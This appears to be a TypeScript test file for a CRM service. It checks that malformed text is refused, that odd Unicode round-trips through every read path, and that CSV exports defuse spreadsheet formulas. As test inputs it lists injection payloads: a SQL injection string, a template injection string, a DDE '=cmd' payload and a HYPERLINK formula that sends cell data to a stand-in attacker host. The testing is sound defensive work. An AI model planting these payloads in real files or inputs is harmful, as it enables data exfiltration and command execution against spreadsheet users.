import assert from "node:assert/strict";
import { test } from "node:test";
import { FIELD_KINDS } from "@kith/filter/kinds";
import { countsOf, importFile, uploadFile } from "../import-file.ts";
import { scaled } from "../measured.ts";
import { sharedService, type Person } from "../service.ts";
import { assertCleanTraces } from "../assertions.ts";
import { until } from "../waiting.ts";

const service = sharedService();
let worker: { stop(): Promise<void> } | undefined;
test.after(() => worker?.stop());
test.beforeEach(async () => {
  worker ??= await service().app.startWorker();
});
test.afterEach(() => assertCleanTraces(service()));

const UNSTORABLE = ["abc\0def", "\0", "abc\ud800def", "\udc00"];
/** Odd, and kept as they are. Each is long enough to be searched for. */
const ODD = [
  "abc\u202edef",
  "abc\u200bdef\u2060ghi",
  "abc\ufeff",
  "👩‍🚀👨‍👩‍👧🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "𐍈𐍉𐌰",
  "line\r\nbreak",
  "tab\tulator",
  "abc\u0001\u001b[31mred",
  "abc\u2028def",
  "abc\uffff",
  "ΟΔΥΣΣΕΥΣ İ ẞtraße",
  "cafe\u0301 (nfd)",
  "'; drop table users; --",
  '<b onclick="x">\\"${7*7}{{7*7}}%00%s',
  "constructor",
];

const OPTIONS = [{ key: "one", label: "One" }];

/** A type with a field of every kind, named after it. */
async function oddType(admin: Person): Promise<void> {
  await admin.call("types.create", { key: "odd", label: "Odd", label_plural: "Odds" });
  for (const kind of FIELD_KINDS) {
    const options = ["select", "multi_select", "stage"].includes(kind) ? { options: OPTIONS } : {};
    const relation = kind === "relation" ? { related_type: "odd", is_multi: true } : {};
    await admin.call("types.addField", { type: "odd", key: `of_${kind}`, label: `Of ${kind}`, field_type: kind, ...options, ...relation });
  }
}

const FIELDS = ["name", "owner", ...FIELD_KINDS.map((kind) => `of_${kind}`)];
const isFreeText = (field: string) => ["name", "of_text", "of_long_text"].includes(field);

interface Way {
  name: string;
  input(values: Record<string, unknown>, id: string, twin: string): object;
}

/** Every way to write a value of a record. */
const WAYS: Way[] = [
  { name: "records.create", input: (values) => ({ type: "odd", values: { name: "new", ...values } }) },
  { name: "records.update", input: (values, id) => ({ id, values }) },
  {
    name: "records.upsert",
    input: (values) => ({ type: "odd", match: "of_email", values: { name: "x", of_email: "odd@test.example", ...values } }),
  },
  { name: "records.batch", input: (values, id) => ({ type: "odd", items: [{ id, values }] }) },
  { name: "assistant.save", input: (values, id) => ({ type: "odd", records: [{ record: id, values }] }) },
  { name: "records.merge", input: (values, id, twin) => ({ type: "odd", into: id, from: [twin], values }) },
];

test("NUL and half a character are refused in every kind of field by every way to write; nothing odd is ever a 500", async () => {
  const ada = await service().given.admin();
  await oddType(ada);
  const make = async () => (await ada.call("records.create", { type: "odd", values: { name: "made" } })).record.id;
  const id = await make();
  const send = async (way: Way, field: string, value: unknown) => {
    const twin = way.name === "records.merge" ? await make() : "";
    const answer = await ada.post(way.name, way.input({ [field]: value }, id, twin));
    const body = await answer.text();
    const where = `${way.name} ${field} ${JSON.stringify(value)}: ${answer.status} ${body.slice(0, 200)}`;
    const isRefused = answer.status === 422 || (answer.status === 200 && body.includes('"status":"failed"'));
    assert.ok(isRefused || answer.status === 200, where);
    return { isRefused, where, id: /"record":\{"id":"(rec_\w+)"/.exec(body)?.[1] ?? id };
  };
  for (const [column, field] of FIELDS.entries()) {
    for (const [row, way] of WAYS.entries()) {
      // Where it is in the text makes no difference to the way: the gate has one of each kind.
      for (const text of scaled(UNSTORABLE, ["abc\0def", "\udc00"])) {
        const { isRefused, where } = await send(way, field, text);
        assert.ok(isRefused, where);
      }
      if (way.name !== "records.create" && !isFreeText(field)) continue;
      // The gate tries some of them with each field and way, not always the same.
      for (const text of ODD.filter((_, at) => (at + column + row) % scaled(1, 4) === 0)) {
        const { isRefused, where, id: written } = await send(way, field, text);
        if (!isFreeText(field)) await send(way, field, [text, { text }]);
        else {
          assert.ok(!isRefused, where);
          assert.equal((await ada.call("records.get", { id: written })).values[field], text, where);
        }
      }
    }
  }
});

test("NUL and half a character are refused in the name of a field that is given, too", async () => {
  const ada = await service().given.admin();
  for (const name of UNSTORABLE) {
    assert.equal((await ada.post("records.create", { type: "contact", values: { name: "x", [name]: "x" } })).status, 422);
    assert.equal((await ada.post("records.batch", { type: "contact", items: [{ values: { [name]: "x" } }] })).status, 422);
  }
  for (const name of ODD) {
    const answer = await ada.post("records.create", { type: "contact", values: { name: "x", [name]: "x" } });
    assert.ok([400, 422].includes(answer.status), `${name} ${answer.status}`);
  }
});

test("names of types, fields, options and views are stored as given, or refused; never a 500", async () => {
  const ada = await service().given.admin();
  for (const [at, text] of [...ODD, ...UNSTORABLE].entries()) {
    const label = text.trim();
    const type = { key: `t${at}`, label: text, label_plural: `${text}s` };
    const field = { type: "contact", key: `f${at}`, label: text, field_type: "select", options: [{ key: "one", label: text }] };
    const view = { type: "contact", name: text, filter: `city:"${text.replaceAll(/["\\]/g, String.raw`\$&`)}"` };
    const answers = [await ada.post("types.create", type), await ada.post("types.addField", field), await ada.post("views.create", view)];
    const statuses = answers.map((answer) => answer.status);
    if (UNSTORABLE.includes(text)) assert.deepEqual(statuses, [422, 422, 422]);
    else {
      assert.deepEqual(statuses, [200, 200, 200], JSON.stringify(text));
      const { items } = await ada.call("types.list", { types: ["contact", `t${at}`] });
      assert.deepEqual([items[1]?.label, items[1]?.label_plural], [label, `${text}s`.trim()]);
      const kept = items[0]?.fields.find((one) => one.key === `f${at}`);
      assert.deepEqual([kept?.label, kept?.options?.[0]?.label], [label, label]);
      const views = (await ada.call("views.list", { type: "contact" })).items;
      assert.ok(views.some((one) => one.name === label && one.filter === view.filter));
      const { record } = await ada.call("records.create", { type: "contact", values: { name: "x", [`f${at}`]: text } });
      assert.equal(record.values[`f${at}`], "one", "an option is found by its label");
    }
  }
});

test("a key that every JavaScript object has already is refused, for no body can name it; as a label it works everywhere", async () => {
  const ada = await service().given.admin();
  for (const key of ["constructor", "prototype"]) {
    const relation = { type: "deal", label: "Built by", field_type: "relation", related_type: "contact", inverse_label: "Builds" };
    for (const [name, input, pointer] of [
      ["types.create", { key, label: "Thing", label_plural: "Things" }, "/key"],
      ["types.addField", { type: "deal", key, label: "Builder", field_type: "number" }, "/key"],
      ["types.addField", { ...relation, key: "built_by", inverse_key: key }, "/inverse_key"],
    ] as const) {
      const answer = await ada.post(name, input);
      assert.equal(answer.status, 422, `${name} ${key}`);
      const { errors } = (await answer.json()) as { errors: { pointer: string; message: string }[] };
      assert.deepEqual(errors, [{ pointer, message: `${key} is reserved. Choose another key.` }]);
    }
  }
  await ada.call("types.addField", { type: "deal", key: "builder", label: "Constructor", field_type: "text" });
  const { id } = await importFile(ada, "deal", "Name,Constructor,toString\nx,Ada,y\nz,,\n");
  assert.equal((await ada.call("imports.get", { id })).created, 2);
  const { items } = await ada.call("records.list", { type: "deal", sort: "name" });
  assert.deepEqual(
    items.map((item) => item.values["builder"]),
    ["Ada", undefined],
  );
});

const quoted = (text: string) => `"${text.replaceAll(/["\\]/g, String.raw`\$&`)}"`;

test("what was kept comes back the same by list, filter, search, timeline, change feed, tool and export, and in from a file", async () => {
  const [ada, eve] = [await service().given.admin(), await service().given.admin()];
  const { key } = await ada.key();
  for (const text of ODD) {
    const values = { name: text, city: text, description: text };
    const { record } = await ada.call("records.create", { type: "organization", values });
    const { id } = await ada.call("records.addNote", { id: record.id, text: `(${text})` });
    const seen = { title: record.title, city: record.values["city"], description: record.values["description"] };
    assert.deepEqual(seen, { title: text, city: text, description: text });

    for (const filter of [
      `name:${quoted(text)}`,
      `city:${quoted(text)}`,
      JSON.stringify({ field: "description", op: "eq", value: text }),
    ]) {
      const { items } = await ada.call("records.list", { type: "organization", filter });
      assert.deepEqual(
        items.map((item) => [item.id, item.title, item.values["description"]]),
        [[record.id, text, text]],
        filter,
      );
    }
    const { items: found } = await ada.call("records.search", { query: text });
    assert.ok(
      found.some((one) => one.id === record.id && one.title === text),
      JSON.stringify(text),
    );
    const { items: entries } = await ada.call("records.timeline", { id: record.id });
    assert.deepEqual(
      [entries[0]?.note, entries[1]?.changes?.["city"]],
      [{ id, text: `(${text})`, edited_at: null, format: "text", is_pinned: false, mentions: [] }, [null, text]],
    );
    const params = { name: "fetch", arguments: { id: record.id } };
    const fetched = await service().mcp(key, { jsonrpc: "2.0", id: 1, method: "tools/call", params });
    const { result } = (await fetched.json()) as { result: { structuredContent: { text: string } } };
    const { values: shown, notes } = JSON.parse(result.structuredContent.text) as { values: { city: string }; notes: { text: string }[] };
    assert.deepEqual([shown.city, notes[0]?.text], [text, `(${text})`]);
  }
  const fed = await untilFed(ada, ODD.length);
  assert.deepEqual(fed, ODD);

  const first = await exported(ada, "organization");
  const moved = await importFile(eve, "organization", first.replaceAll(ada.email, eve.email));
  assert.deepEqual(
    countsOf(moved),
    { rows: ODD.length, created: ODD.length, updated: 0, skipped: 0, failed: 0 },
    JSON.stringify(moved.problems),
  );
  assert.deepEqual(await citiesOf(eve), ODD.toSorted());
  assert.equal(withoutIds(await exported(eve, "organization")).replaceAll(eve.email, ada.email), withoutIds(first));
});

const citiesOf = async (person: Person) =>
  (await person.call("records.list", { type: "organization", limit: 100 })).items.map((item) => String(item.values["city"])).sort();

/** The changes of a city in the feed. */
async function untilFed(person: Person, wanted: number): Promise<unknown[]> {
  return until(async () => {
    const { items } = await person.call("records.changes", { limit: 500 });
    const cities = items.flatMap((item) => item.changes?.["city"]?.[1] ?? []);
    return cities.length >= wanted && cities;
  }, `${wanted} cities are in the feed`);
}

async function exported(person: Person, type: string): Promise<string> {
  const { id } = await person.call("exports.create", { type, sort: "name" });
  const { parts } = await until(async () => {
    const now = await person.call("exports.get", { id });
    return now.state !== "running" && now;
  }, "the export is over");
  let csv = "";
  for (let position = 0; position < parts; position++) csv += (await person.call("exports.read", { id, position })).text;
  return csv;
}

/** A file without the parts that differ on every import. */
const withoutIds = (csv: string) => csv.replaceAll(/rec_\w{26}|\d{4}-\d\d-\d\dT[\d:.]+Z/g, "");

test("a file's rows with NUL or broken UTF-8 fail alone, in every kind of field, and are reported", async () => {
  const ada = await service().given.admin();
  await oddType(ada);
  // The byte order mark says that it is UTF-8; a NUL near the beginning would make it no text at all.
  const rows: Buffer[] = [Buffer.from(`\uFEFF${FIELDS.join(",")}\r\nfirst,,,"${"padding ".repeat(200)}"\r\n`)];
  for (const at of FIELDS.keys()) {
    for (const bytes of [Buffer.from("a\0b"), Buffer.from([0x61, 0xed, 0xa0, 0x80, 0x62]), Buffer.from([0xff])]) {
      const before = FIELDS.slice(0, at).map((field) => (field === "name" ? "row," : ","));
      rows.push(Buffer.from(before.join("")), bytes, Buffer.from("\r\n"));
    }
  }
  rows.push(Buffer.from("last\r\n"));
  const done = await importFile(ada, "odd", Buffer.concat(rows));
  assert.deepEqual(countsOf(done), { rows: 2 + FIELDS.length * 3, created: 2, updated: 0, skipped: 0, failed: FIELDS.length * 3 });
  const { csv } = await ada.call("imports.errors", { id: done.id });
  assert.ok(!csv.includes("\0") && csv.isWellFormed());
});

/** Texts that a spreadsheet would run or convert. */
const FORMULAS = [
  "=1+1",
  "+1",
  "-2",
  "@SUM(A1)",
  "\t=1",
  "\tx",
  "\r=1",
  "\nx",
  " =1",
  "\u00a0=1",
  "  ＝1",
  "＝1",
  "＋1",
  "－1",
  "＠a",
  "'=1",
  "''-1",
  '=HYPERLINK("http://evil.example/?"&A1,"x")',
  '=cmd|"/C calc"!A0',
  "-1+cmd",
];
const RUN = /^(?:[=+\-@\t\r\n\0＝＋－＠]|\s+[=＝])/;

/** One file as RFC 4180 has it: cells between commas, lines ended by CRLF, quotes doubled inside quotes. */
const RFC_4180 = /^(?:(?:"(?:[^"]|"")*"|[^",\r\n]*)(?:,|\r\n))*$/;

function cellsOf(csv: string): string[][] {
  const lines: string[][] = [[]];
  for (const [, quotedCell, plain, end] of csv.matchAll(/(?:"((?:[^"]|"")*)"|([^",\r\n]*))(,|\r\n)/g)) {
    lines.at(-1)?.push(quotedCell?.replaceAll('""', '"') ?? plain ?? "");
    if (end !== ",") lines.push([]);
  }
  return lines.slice(0, -1);
}

test("every text that a spreadsheet would run starts with an apostrophe in an export: values, titles, labels and options; numbers stay numbers", async () => {
  const [ada, eve] = [await service().given.admin(), await service().given.admin()];
  for (const person of [ada, eve]) {
    for (const [at, text] of FORMULAS.entries()) {
      const label = text.trim();
      const options = [{ key: "one", label }];
      const field = { type: "contact", key: `formula_${at}`, label: `${label}${at}`, field_type: "multi_select", options } as const;
      await person.call("types.addField", field);
      await person.call("records.create", { type: "organization", values: { name: `${label} ${at}` } });
    }
    await person.call("types.addField", { type: "contact", key: "balance", label: "Balance", field_type: "number" });
  }
  for (const [at, text] of FORMULAS.entries()) {
    const values = {
      name: `${text} ${at}`,
      city: text,
      job_title: `${text}\r\n"quoted", and; more`,
      email: [`=a${at}@x.example`, `+b${at}@x.example`],
      phone: "+4930901820",
      organization: `${text.trim()} ${at}`,
      [`formula_${at}`]: "one",
      balance: -at,
    };
    await ada.call("records.create", { type: "contact", values, allow_duplicate: true });
  }
  const first = await exported(ada, "contact");
  assert.match(first, RFC_4180);
  const [header = [], ...lines] = cellsOf(first.slice(1));
  assert.equal(lines.length, FORMULAS.length);
  const balance = header.indexOf("Balance");
  for (const cell of [...header, ...lines.flatMap((line) => line.filter((_, at) => at !== balance))]) assert.doesNotMatch(cell, RUN);
  const city = header.indexOf("City");
  assert.deepEqual(lines.map((line) => String(line[city])).sort(), FORMULAS.map((text) => `'${text}`).sort());
  assert.deepEqual(lines.map((line) => String(line[balance])).sort(), FORMULAS.map((_, at) => String(-at)).sort());

  // Every column is recognised again, and every value is what it was.
  const { columns } = await eve.call("imports.inspect", { id: await uploadFile(eve, "contact", first) });
  assert.deepEqual(
    columns.filter((column) => !column.field && !["Created", "Updated", "Created at", "Updated at", "Last activity"].includes(column.name)),
    [],
  );
  const moved = await importFile(eve, "contact", first.replaceAll(ada.email, eve.email));
  assert.deepEqual(
    countsOf(moved),
    { rows: FORMULAS.length, created: FORMULAS.length, updated: 0, skipped: 0, failed: 0 },
    JSON.stringify(moved.problems),
  );
  const second = await exported(eve, "contact");
  assert.equal(withoutIds(second).replaceAll(eve.email, ada.email), withoutIds(first));
  const again = await importFile(eve, "contact", second, { mode: "upsert", match: "id" });
  assert.deepEqual(countsOf(again), { rows: FORMULAS.length, created: 0, updated: 0, skipped: FORMULAS.length, failed: 0 });
});

test("the file of failed rows is safe, too, and after correction it imports the right values", async () => {
  const ada = await service().given.admin();
  const cell = (text: string) => `"${text.replaceAll('"', '""')}"`;
  const rows = FORMULAS.map((text) => `${cell(text)},${cell(`x${text}`)},nonsense`);
  const { id, failed } = await importFile(
    ada,
    "contact",
    ["Name,=City,Email,Other", ...rows, `x,x,nonsense,${"long ".repeat(300)}`, '"a\0b"'].join("\r\n"),
    { bad_cells: "refuse_row" },
  );
  assert.equal(failed, FORMULAS.length + 2);
  const { csv } = await ada.call("imports.errors", { id });
  assert.match(csv, RFC_4180);
  for (const one of cellsOf(csv).flat()) assert.doesNotMatch(one, RUN);
  const mended = await importFile(
    ada,
    "contact",
    csv
      .replaceAll("nonsense", "")
      .replace(/^.*\uFFFD.*\r\n/m, "")
      .replace(/^x,x,.*\r\n/m, ""),
  );
  assert.deepEqual(
    countsOf(mended),
    { rows: FORMULAS.length, created: FORMULAS.length, updated: 0, skipped: 0, failed: 0 },
    JSON.stringify(mended.problems),
  );
  const { items } = await ada.call("records.list", { type: "contact", limit: 100 });
  // Another program's file may have the apostrophe for the spreadsheet: one is removed.
  assert.deepEqual(items.map((item) => item.title).sort(), FORMULAS.map((text) => text.replace(/^'/, "")).sort());
});
